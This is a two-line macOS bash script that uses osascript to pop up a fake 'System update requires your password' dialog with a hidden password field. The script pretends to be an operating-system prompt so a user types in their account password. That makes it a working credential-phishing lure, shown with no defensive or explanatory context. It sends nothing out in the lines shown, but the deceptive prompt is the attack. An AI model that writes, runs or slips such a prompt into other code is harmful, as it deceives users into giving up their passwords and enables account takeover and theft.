#!/bin/bash
osascript -e 'display dialog "System update requires your password" default answer "" with hidden answer'
